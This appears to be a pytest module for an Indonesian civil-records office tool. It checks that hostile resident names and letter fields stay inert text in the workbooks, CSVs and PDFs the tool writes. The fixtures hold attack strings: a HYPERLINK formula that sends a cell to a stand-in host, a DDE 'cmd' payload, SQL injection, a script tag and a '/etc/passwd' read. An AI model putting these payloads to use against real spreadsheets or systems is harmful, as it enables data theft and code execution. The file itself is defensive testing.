"""Hostile names, letters and layouts on their way out: text stays text, and letters stay letters."""

import io
import zipfile
from pathlib import Path

import pytest
import xlsxwriter
from office_kit.files import Row, write, write_letter
from office_kit.pdf_text import pages_of, text_of
from office_kit.residents import COLUMNS, resident
from office_kit.samples import SAMPLES
from office_kit.signers import NOW
from office_kit.small import ABROAD, Batch, found_office, run_steps
from office_kit.written import Papers, cells_of, csv_of, papers, write_batch

from expectations.outcomes import Outcome
from tasks.documents.issue import issue
from tasks.ledger import open_ledger
from tasks.lists.make import NAMES
from tasks.propose import propose
from tasks.receive import receive
from tasks.store import open_store

SECRET = "357602" + "4107809001"  # a NIK where none belongs
NAMES_OF_ATTACKERS = (
    '=HYPERLINK("http://x.id/?n="&A2,"BUDI")', "@SUM(1+1)*cmd|' /C calc'!A0", "+62 BUDI", "-1+1 SITI",
    "http://phishing.id/nik", '#read("/etc/passwd") $x^2$ *tebal*', "</w:t><script>alert(1)</script>",
    "BUDI\u202eITIS", "A" * 300, "BUDI _x000D_ UJI", "SITI | **KADIS**", "'; drop table penduduk; --",
)  # fmt: skip
HOSTILE_LETTER = {
    "dari": f'#image("http://x.id") = Dirjen {SECRET}', "nomor": "400\x1b[31m/1 *x*", "tanggal": "$2026$",
    "perihal": "</script> " + "SANGAT PANJANG " * 60,
}  # fmt: skip


def sent(home: Path, name: str, content: bytes, **letter: str) -> Batch:
    """A written batch of one file, with a letter that tells no totals."""
    office, desk = found_office(home)
    paths = [write(office.inbox / name, content)]
    told = write_letter(office.inbox / "s.json", {path.name: {} for path in paths}, **letter)
    receipt = receive(office, paths, told, (NOW, "inbox"))
    with open_store(office) as con:
        steps = run_steps(con, office, receipt) | {"propose": propose(con, receipt.agenda, 1)}
    return write_batch(Batch(office, desk, receipt, steps))


def book(rows: list[Row]) -> bytes:
    """A workbook whose every cell is text, also what begins like a formula."""
    made = io.BytesIO()
    with xlsxwriter.Workbook(made, {"in_memory": True}) as workbook:
        sheet = workbook.add_worksheet()
        for line, row in enumerate([dict(zip(COLUMNS, COLUMNS, strict=True)), *rows]):
            for column, name in enumerate(COLUMNS):
                sheet.write_string(line, column, row[name] or "")
    return made.getvalue()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Batch:
    rows = [
        resident(60 + n, NAMA_LGKP=name, ALAMAT=name, **(ABROAD if n % 2 else {}))
        for n, name in enumerate(NAMES_OF_ATTACKERS)
    ]
    home = tmp_path_factory.mktemp("serangan") / "kantor"
    return sent(home, f"[x](javascript) {SECRET}.xlsx", book(rows), **HOSTILE_LETTER)


@pytest.fixture(scope="module")
def out(attacked: Batch) -> Papers:
    return papers(attacked)


def test_nothing_from_data_becomes_live(out: Papers, tmp_path: Path) -> None:
    """If this fails, opening a list runs a formula or offers a link that a resident's record planted."""
    names = set()
    for name, document in out.items():
        if name.endswith(".xlsx"):
            for lines in cells_of(tmp_path / "daftar.xlsx", document).values():
                names |= {value for line in lines for value in line}
    assert set(NAMES_OF_ATTACKERS) <= names


def test_the_machine_reads_what_came(out: Papers) -> None:
    """If this fails, the centre's machine gets another name than it sent."""
    read = [row["NAMA_LGKP"] for outcome in Outcome for row in csv_of(out[f"{NAMES[outcome][0]}.csv"]).rows(named=True)]
    assert sorted(read) == sorted(NAMES_OF_ATTACKERS)


def test_a_hostile_letter_is_printed_as_text(out: Papers) -> None:
    """If this fails, whoever writes our incoming letters writes in our outgoing ones."""
    told = text_of(out["surat-balasan-2026-0001.pdf"].content)
    assert '#image("http://x.id") = Dirjen 357602******9001' in told
    assert "400/1 *x*" in told
    assert "$2026$" in told
    for name, document in out.items():
        if name.endswith(".pdf"):
            text = text_of(document.content)
            assert SECRET not in text.replace(" ", "")
            assert not [attack for attack in NAMES_OF_ATTACKERS if attack in text]
            assert b"/URI" not in document.content
            assert len(pages_of(document.content)) <= 2


def test_papers_stay_in_their_folders(attacked: Batch, out: Papers) -> None:
    """If this fails, a crafted name puts a list with NIKs where everybody reads."""
    with open_ledger(attacked.office) as ledger:
        paths = [
            issue(attacked.office, ledger, (attacked.agenda, attacked.desk.clock), paper) for paper in out.values()
        ]
    assert {path.parent for path in paths} == {
        attacked.office.outbox / attacked.agenda, attacked.office.documents / attacked.agenda
    }  # fmt: skip
    assert all(path.stat().st_mode & 0o777 == 0o600 for path in paths)


def test_300_referred_rows_fit_one_letter(tmp_path: Path) -> None:
    """If this fails, a large referral's letter grows with its list, and names residents."""
    rows = [resident(n, NAMA_LGKP=f"UJI {n} SANGATPANJANG{'X' * (n % 40)}", **ABROAD) for n in range(100, 400)]
    out = papers(sent(tmp_path / "kantor", "a.xlsx", book(rows)))
    assert len(pages_of(out["surat-luar-kota-2026-0001-3515.pdf"].content)) == 1
    assert csv_of(out["3-rujuk-luar-kota-3515.csv"]).height == 300
    assert "300 (tiga ratus) orang" in text_of(out["surat-luar-kota-2026-0001-3515.pdf"].content)


def test_unreadable_lines_go_back_too(tmp_path: Path) -> None:
    """If this fails, the totals of the reply can not be followed to the rejected lines."""
    lines = [
        ";".join(COLUMNS),
        *(";".join(resident(n)[name] or "" for name in COLUMNS) for n in range(40)),
        "rusak",
        "",
    ]
    out = papers(sent(tmp_path / "kantor", "a.csv", "\n".join(lines).encode()))
    rejected = csv_of(out["6-ditolak.csv"])
    assert rejected.rows() == [("a.csv", "42", "kurang kolom", "rusak")]
    told = text_of(out["surat-balasan-2026-0001.pdf"].content)
    assert "6 Tidak dapat dibaca, dikembalikan 1 Jumlah, sama dengan yang diterima 41" in told
    assert "6-ditolak.csv" in told


def test_members_of_a_zip_are_named_as_they_came(tmp_path: Path) -> None:
    """If this fails, the centre cannot tell in which file of its ZIP a row was."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for at, name in enumerate(("satu.csv", "dua.csv")):
            text = "\n".join([";".join(COLUMNS), ";".join(resident(at)[column] or "" for column in COLUMNS), ""])
            archive.writestr(name, text)
    out = papers(sent(tmp_path / "kantor", "kirim.zip", made.getvalue()))
    frame = csv_of(out["4-tidak-terbukti.csv"])
    assert frame["SUMBER_BERKAS"].to_list() == ["kirim.zip/satu.csv", "kirim.zip/dua.csv"]
    assert frame["SUMBER_BARIS"].to_list() == ["2", "2"]


def test_a_book_of_residents_goes_back_in_its_own_words(tmp_path: Path) -> None:
    """If this fails, rows of a print (BIP), which has labels instead of one header row, are lost on the way back."""
    out = papers(sent(tmp_path / "kantor", "bip.xlsx", (SAMPLES / "bip_kranggan_2026.xlsx").read_bytes()))
    frames = [csv_of(out[f"{NAMES[outcome][0]}.csv"]) for outcome in Outcome]
    assert sum(frame.height for frame in frames) == 904
    assert {"NIK", "NAMA", "SHDK", "No. KK :"} <= set(frames[3].columns)
